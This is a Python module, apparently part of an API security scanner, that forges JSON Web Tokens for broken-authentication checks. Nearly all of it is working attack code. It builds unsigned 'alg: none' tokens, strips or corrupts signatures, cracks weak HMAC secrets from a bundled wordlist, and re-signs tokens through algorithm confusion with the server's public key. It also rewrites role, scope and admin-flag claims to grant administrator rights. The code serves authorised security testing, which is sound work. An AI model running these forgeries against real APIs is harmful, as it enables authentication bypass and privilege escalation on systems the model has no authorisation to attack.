"""Forging JWTs for broken-authentication checks (OWASP API2): pure functions, no HTTP.

Each attack turns a token the API issued into one it should refuse: unsigned
(``alg: none`` in its usual spellings), signature stripped or corrupted, expired,
re-signed with a cracked weak HMAC secret, or re-signed HS256 with the server's
public key as the HMAC secret (algorithm confusion). A check sends the result and
reports when the API accepts it::

    jwt = parse(token)
    if jwt is not None:
        forged = forge_none(jwt, escalate_claims(jwt.claims))
        secret = crack_hs(jwt)
        if secret is not None:
            admin = sign_hs(escalate_claims(jwt.claims), secret, jwt.alg or "HS256")

The forging side is hand-rolled on the stdlib because a correct JOSE library
(joserfc) refuses ``none`` and algorithm confusion by design.
"""

from __future__ import annotations

import base64
import binascii
import copy
import hashlib
import hmac
import json
import re
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from functools import cache
from importlib import resources
from typing import Any

__all__ = [
    "HS_ALGORITHMS",
    "MAX_TOKEN_LENGTH",
    "NONE_SPELLINGS",
    "Jwt",
    "crack_hs",
    "escalate_claims",
    "expired_claims",
    "forge_none",
    "key_confusion",
    "looks_like_jwt",
    "none_variants",
    "parse",
    "sign_hs",
    "strip_signature",
    "tamper_signature",
    "weak_secrets",
    "with_claims",
]

MAX_TOKEN_LENGTH = 64 * 1024
NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
HS_ALGORITHMS: dict[str, Callable[[], Any]] = {
    "HS256": hashlib.sha256,
    "HS384": hashlib.sha384,
    "HS512": hashlib.sha512,
}
_SEGMENT = re.compile(r"[A-Za-z0-9_-]*")
_WORDLIST = ("apiward.scan.data", "jwt-secrets.txt")
_DEFAULT_CRACK_LIMIT = 1_000_000

# claim names (normalised by _norm) that carry privileges, by the shape of value they take
_ROLE_KEYS = frozenset({"role", "userrole", "accounttype", "usertype"})
_LIST_KEYS = frozenset({"roles", "groups", "group", "authorities", "permissions", "perms"})
_ROLE_LIKE = _ROLE_KEYS | _LIST_KEYS
_SCOPE_KEYS = frozenset({"scope", "scopes", "scp"})
_FLAG_KEYS = frozenset(
    {"isadmin", "admin", "issuperuser", "superuser", "isstaff", "staff", "isroot", "root"}
)
_IDENTITY_KEYS = frozenset({"sub", "username", "user", "uid", "userid", "email", "name"})
_ADMIN = "admin"
_SPRING_ADMIN = "ROLE_ADMIN"
_MAX_DEPTH = 4


@dataclass(frozen=True)
class Jwt:
    """A compact JWS as parsed, not verified. The raw parts stay out of ``repr``."""

    header: dict[str, Any]
    claims: dict[str, Any]
    signing_input: bytes = field(repr=False)
    signature: bytes = field(repr=False)
    raw: str = field(repr=False)

    @property
    def alg(self) -> str | None:
        """The header's ``alg`` as written (``None`` only for a hand-built instance)."""
        alg = self.header.get("alg")
        return alg if isinstance(alg, str) else None


def parse(token: str) -> Jwt | None:
    """``token`` as a :class:`Jwt`, or None when it is not one. Never raises.

    A JWT here is three base64url parts without padding, a JSON object header with a
    string ``alg`` and a JSON object payload. The signature may be empty (unsigned).
    Input over :data:`MAX_TOKEN_LENGTH` is refused before any decoding.
    """
    if not isinstance(token, str) or len(token) > MAX_TOKEN_LENGTH:
        return None
    token = token.strip()
    parts = token.split(".")
    if len(parts) != 3 or not parts[0] or not parts[1]:
        return None
    header = _json_segment(parts[0])
    claims = _json_segment(parts[1])
    signature = _b64decode(parts[2])
    if header is None or claims is None or signature is None:
        return None
    if not isinstance(header.get("alg"), str):
        return None
    signing_input = f"{parts[0]}.{parts[1]}".encode("ascii")
    return Jwt(header, claims, signing_input, signature, token)


def looks_like_jwt(value: str) -> bool:
    """Whether ``value`` parses as a JWT (see :func:`parse`)."""
    return parse(value) is not None


def forge_none(jwt: Jwt, claims: dict[str, Any] | None = None, alg_spelling: str = "none") -> str:
    """An unsigned copy of ``jwt`` (``header.payload.``) whose header says ``alg_spelling``.

    ``claims`` are merged over the original claims (theirs win).
    """
    header = {**jwt.header, "alg": alg_spelling}
    return _encode(header, _merged(jwt, claims), b"")


def none_variants(jwt: Jwt, claims: dict[str, Any] | None = None) -> list[str]:
    """:func:`forge_none` once per spelling in :data:`NONE_SPELLINGS`."""
    return [forge_none(jwt, claims, spelling) for spelling in NONE_SPELLINGS]


def strip_signature(jwt: Jwt) -> str:
    """``jwt`` as issued, minus its signature: a server that skips verification takes it."""
    return jwt.signing_input.decode("ascii") + "."


def tamper_signature(jwt: Jwt) -> str:
    """``jwt`` with every signature byte inverted; an unsigned one gets 32 junk bytes."""
    corrupted = bytes(b ^ 0xFF for b in jwt.signature) if jwt.signature else b"\x00" * 32
    return f"{jwt.signing_input.decode('ascii')}.{_b64encode(corrupted)}"


def sign_hs(
    claims: dict[str, Any],
    secret: bytes,
    alg: str = "HS256",
    header: dict[str, Any] | None = None,
) -> str:
    """A token over ``claims`` signed with HMAC ``alg`` (HS256/384/512) and ``secret``.

    ``header`` defaults to ``{"alg": alg, "typ": "JWT"}``; when given, its ``alg``
    is replaced. Raises ValueError for any other ``alg``.
    """
    if alg not in HS_ALGORITHMS:
        raise ValueError(f"not an HMAC algorithm: {alg!r}")
    full = {"alg": alg, "typ": "JWT"} if header is None else {**header, "alg": alg}
    signing_input = _signing_input(full, claims)
    return f"{signing_input}.{_b64encode(_mac(alg, secret, signing_input.encode('ascii')))}"


def crack_hs(
    jwt: Jwt, secrets: Iterable[bytes] | None = None, *, limit: int = _DEFAULT_CRACK_LIMIT
) -> bytes | None:
    """The HMAC secret ``jwt`` was signed with, when it is among ``secrets``.

    ``secrets`` defaults to the empty secret then :func:`weak_secrets`. Only
    HS256/384/512 tokens with a signature are tried; at most ``limit`` candidates.
    """
    alg = jwt.alg
    if alg not in HS_ALGORITHMS or not jwt.signature:
        return None
    candidates: Iterable[bytes] = [b"", *weak_secrets()] if secrets is None else secrets
    for tried, secret in enumerate(candidates):
        if tried >= limit:
            break
        if hmac.compare_digest(_mac(alg, secret, jwt.signing_input), jwt.signature):
            return secret
    return None


def weak_secrets() -> list[bytes]:
    """The bundled wordlist of weak HMAC secrets, most likely first (a fresh list)."""
    return list(_load_weak_secrets())


def key_confusion(jwt: Jwt, public_key_pem: bytes, claims: dict[str, Any] | None = None) -> str:
    """``jwt`` re-signed HS256 with the PEM bytes, exactly as given, as the HMAC secret.

    A server that picks the algorithm from the token and hands its RSA/EC public key
    to the HMAC verifier accepts it. Other header fields (``kid``...) are kept so the
    server selects the same key. ``claims`` are merged over the original ones.
    """
    return sign_hs(_merged(jwt, claims), public_key_pem, "HS256", jwt.header)


def with_claims(jwt: Jwt, **changes: Any) -> dict[str, Any]:
    """A deep copy of ``jwt``'s claims with ``changes`` applied."""
    return {**copy.deepcopy(jwt.claims), **changes}


def expired_claims(claims: dict[str, Any], now: int | None = None) -> dict[str, Any]:
    """A copy of ``claims`` expired an hour ago: ``exp = now - 3600``, ``iat`` an hour
    before that, and ``nbf`` (only when present) equal to ``iat``."""
    current = int(time.time()) if now is None else now
    out = copy.deepcopy(claims)
    out["exp"] = current - 3600
    out["iat"] = current - 7200
    if "nbf" in out:
        out["nbf"] = out["iat"]
    return out


def escalate_claims(claims: dict[str, Any]) -> dict[str, Any]:
    """A best guess at an administrator's version of ``claims`` (a new dict).

    Role-like claims become ``"admin"`` (``ROLE_ADMIN`` where roles are spelled
    ``ROLE_USER``), role lists and scopes gain it,
    flags like ``is_admin`` become true, also inside nested objects (Keycloak's
    ``realm_access.roles``) and under namespaced names (``https://x/roles``,
    ``cognito:groups``). Identity claims (``sub``, ``username``...) are untouched.
    With no privilege claim at all, ``role: "admin"`` is added.
    """
    out = copy.deepcopy(claims)
    if not _escalate(out, 0):
        out["role"] = _ADMIN
    return out


def _escalate(claims: dict[str, Any], depth: int) -> bool:
    """Escalates ``claims`` in place; whether any privilege claim was found."""
    found = False
    for key, value in claims.items():
        name = _norm(key)
        if name in _IDENTITY_KEYS:
            continue
        if name in _ROLE_LIKE and isinstance(value, str | list):
            claims[key] = _with_admin(value) if isinstance(value, list) else _admin_like(value)
        elif name in _SCOPE_KEYS and isinstance(value, str | list):
            claims[key] = _with_admin(value) if isinstance(value, list) else _add_scope(value)
        elif name in _FLAG_KEYS and isinstance(value, bool | int | str):
            claims[key] = _truthy_like(value)
        elif isinstance(value, dict) and depth < _MAX_DEPTH:
            found = _escalate(value, depth + 1) or found
            continue
        else:
            continue
        found = True
    return found


def _norm(key: str) -> str:
    """``https://example.com/Is_Admin`` and ``cognito:groups`` -> ``isadmin``, ``groups``."""
    local = key.rsplit("/", 1)[-1].rsplit(":", 1)[-1]
    return local.lower().replace("_", "").replace("-", "")


def _admin_like(role: object) -> str:
    """``ROLE_ADMIN`` where roles are spelled Spring-style (``ROLE_USER``), else ``admin``."""
    return _SPRING_ADMIN if isinstance(role, str) and role.startswith("ROLE_") else _ADMIN


def _with_admin(values: list[Any]) -> list[Any]:
    admin = _SPRING_ADMIN if any(_admin_like(v) == _SPRING_ADMIN for v in values) else _ADMIN
    return values if admin in values else [*values, admin]


def _add_scope(scope: str) -> str:
    return scope if _ADMIN in scope.split() else f"{scope} {_ADMIN}".strip()


def _truthy_like(value: bool | int | str) -> bool | int | str:
    """True in the same type the claim uses, so a strict server still reads it."""
    if isinstance(value, bool):
        return True
    if isinstance(value, int):
        return 1
    return "true"


def _merged(jwt: Jwt, claims: dict[str, Any] | None) -> dict[str, Any]:
    return {**jwt.claims, **(claims or {})}


def _encode(header: dict[str, Any], claims: dict[str, Any], signature: bytes) -> str:
    return f"{_signing_input(header, claims)}.{_b64encode(signature)}"


def _signing_input(header: dict[str, Any], claims: dict[str, Any]) -> str:
    return f"{_b64json(header)}.{_b64json(claims)}"


def _b64json(value: dict[str, Any]) -> str:
    return _b64encode(json.dumps(value, separators=(",", ":")).encode("utf-8"))


def _mac(alg: str, secret: bytes, message: bytes) -> bytes:
    return hmac.new(secret, message, HS_ALGORITHMS[alg]).digest()


def _b64encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _b64decode(segment: str) -> bytes | None:
    # strict: no padding, no whitespace, no standard-alphabet characters
    if len(segment) % 4 == 1 or not _SEGMENT.fullmatch(segment):
        return None
    try:
        return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))
    except (binascii.Error, ValueError):
        return None


def _json_segment(segment: str) -> dict[str, Any] | None:
    raw = _b64decode(segment)
    if raw is None:
        return None
    try:
        value = json.loads(raw.decode("utf-8"))
    except (UnicodeDecodeError, ValueError, RecursionError):
        # ValueError covers malformed JSON and integers over Python's digit limit
        return None
    return value if isinstance(value, dict) else None


@cache
def _load_weak_secrets() -> tuple[bytes, ...]:
    data = resources.files(_WORDLIST[0]).joinpath(_WORDLIST[1]).read_bytes()
    seen: dict[bytes, None] = {}
    for line in data.split(b"\n"):
        secret = line.rstrip(b"\r")
        if secret and not secret.startswith(b"#"):
            seen.setdefault(secret, None)
    return tuple(seen)
